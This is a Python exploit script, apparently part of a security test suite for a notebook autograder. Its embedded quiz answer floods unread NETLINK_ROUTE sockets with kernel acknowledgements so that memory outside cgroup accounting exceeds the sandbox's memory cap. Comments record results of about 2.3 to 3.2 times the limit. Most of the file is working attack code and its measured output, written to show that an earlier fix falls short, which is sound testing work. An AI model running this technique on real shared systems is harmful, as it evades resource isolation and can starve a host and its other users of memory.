"""Round 13, a07 (ROOT run): a04 with NETLINK_ROUTE only: the kernel's own acknowledgements, never read.

a04 used NETLINK_USERSOCK, the one netlink protocol an unprivileged process may send to another socket. A fix that
allowed only NETLINK_ROUTE (what glibc's getaddrinfo/getifaddrs use) would not be enough: every request sent to the
kernel with NLM_F_ACK (here RTM_GETLINK for an interface that does not exist) queues an error message on the
sender's own socket, up to its SO_RCVBUF (8 MiB), and those skbs are charged to no memory cgroup either (host check
as uid 65534 in a 512 MiB cgroup: 63 MiB queued on 8 sockets, memory.usage 0).
Cap lowered to 1 GiB as in a04 (tests/attacks/run_grade.py); 600 MiB anonymous (counted) + 1.5 GiB of acks.
Usage: <venv python> a07_netlink_route_acks_past_memory_cap.py
"""
import os, sys, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common13 import course, grade, show, notebook, honest_nb, outputs, my_cgroups, mem_available

ANON = 600 << 20
Q1 = r'''
import socket, struct, time, resource
def _nl_rmem():
    total = 0
    for line in open("/proc/net/netlink").read().splitlines()[1:]:
        f = line.split()
        total += int(f[4])  # Rmem: bytes queued for the socket to read
    return total
_anon = bytearray(%d)
for _i in range(0, len(_anon), 4096):
    _anon[_i] = 1
_body = struct.pack("=BxHiII", 0, 0, 999, 0, 0)  # ifinfomsg: an interface index that does not exist
_req = struct.pack("=LHHLL", 16 + len(_body), 18, 1 | 4, 0, 0) + _body  # RTM_GETLINK, NLM_F_REQUEST | NLM_F_ACK
_keep, _queued, _err = [], 0, None
try:
    _have = 0
    while _have < 1610612736:
        _r = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)  # NETLINK_ROUTE
        _r.bind((0, 0))
        _r.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        _r.setblocking(False)
        for _ in range(15000):  # ~11,000 acks fill 8 MiB; past that the kernel drops them (send still succeeds)
            try:
                _r.send(_req); _queued += 1
            except OSError:
                break
        _keep.append(_r)
        if len(_keep) %% 16 == 0:
            _have = _nl_rmem()
except OSError as _e:
    _err = repr(_e)
_queued = _nl_rmem()
print(f"anon {len(_anon) / 2**20:.0f} MiB (counted); netlink: acks queued on {len(_keep)} NETLINK_ROUTE sockets "
      f"that never read; the kernel's own account (/proc/net/netlink Rmem): {_nl_rmem() / 2**30:.2f} GiB; "
      f"RLIMIT_DATA {resource.getrlimit(resource.RLIMIT_DATA)[0] / 2**30:.2f} GiB; stopped by: {_err}", flush=True)
time.sleep(20)
del _keep, _anon
q1 = "a"
''' % ANON

SHIPPED = False

if __name__ == "__main__":
    dest = "/tmp/attack13-a07"
    course(dest, {"aa_honest": honest_nb(), "zz_route_acks": notebook(overrides={"quiz_q1": Q1})})
    cap = 6 << 30 if SHIPPED else 1 << 30
    rows, stop = [], []
    base = mem_available()

    def sample():
        while not stop:
            mine = my_cgroups()
            rows.append((base - mem_available(), mine))
            time.sleep(0.25)

    th = threading.Thread(target=sample, daemon=True); th.start()
    grade(dest, limits=None if SHIPPED else {"memory_bytes": 1 << 30})
    stop.append(1); th.join()
    drop, cg = max(rows, key=lambda r: r[0] + sum(v["usage_in_bytes"] for v in r[1].values()))
    print(f"host, at the largest MemAvailable drop ({drop / 2**30:.2f} GiB; the machine is shared, so this is approximate): "
          f"the submission's memory cgroup(s) {sorted(k.split('-')[-1] for k in cg)} held "
          f"{sum(v['usage_in_bytes'] for v in cg.values()) / 2**30:.2f} GiB of a {cap / 2**30:.2f} GiB limit; highest max_usage seen "
          f"{max([v['max_usage_in_bytes'] for r in rows for v in r[1].values()] or [0]) / 2**30:.2f} GiB")
    show(dest)
    outputs(dest, "zz_route_acks")
    import shutil; shutil.rmtree(dest, ignore_errors=True)

# RESULT (root, cgroup v1, kernel 6.18): BROKEN (caps).
#   a04.out.txt (cap 1 GiB): 2.51 GiB sent to 325 NETLINK_USERSOCK sockets (the kernel's own /proc/net/netlink Rmem:
#   2.53 GiB) + 0.6 GiB anonymous memory; the submission's memory cgroup held 0.68-0.69 GiB of its 1.00 GiB limit
#   the whole time: 3.2 GiB held, 3.2x the cap, RLIMIT_DATA (1 GiB) not involved either.
#   a04-shipped.out.txt (`python -m tools.grade` as shipped, 6 GiB cap): 3.04 GiB queued, the cgroup counted 0.69 GiB.
#   No error stopped the kernel before its target: the limit is 8 MiB a socket, 1,280 files a process, 256
#   processes. Honest student 24/24 in both runs.

# RESULT (root, cgroup v1, kernel 6.18, a07.out.txt): BROKEN (caps). 1.62 GiB of acknowledgements queued on 208
#   NETLINK_ROUTE sockets (the kernel's own /proc/net/netlink Rmem) + 0.6 GiB anonymous memory, while the
#   submission's memory cgroup held 0.69 GiB of its 1.00 GiB limit: 2.3 GiB, 2.3x the cap. Honest student 24/24.
#   So refusing NETLINK_USERSOCK alone does not close a04.
